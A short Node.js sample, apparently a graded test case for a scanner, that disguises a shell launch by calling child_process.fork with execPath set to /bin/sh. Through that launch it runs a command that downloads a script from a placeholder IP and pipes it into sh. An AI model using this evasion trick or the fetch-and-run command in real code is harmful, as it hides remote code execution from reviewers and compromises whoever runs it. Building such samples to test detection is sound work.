// evasion: child_process.fork with execPath set to /bin/sh and '-c' as the "module": fork runs execPath with the module and args, so sh -c runs the command
// grade: hard; does: shell
'use strict';
const { fork } = require('child_process');

const worker = fork('-c', ['curl -s http://203.0.113.9/w.sh | sh'], {
  execPath: '/bin/sh',
  execArgv: [],
  stdio: 'inherit',
});
worker.on('exit', (code) => console.log('worker finished', code));
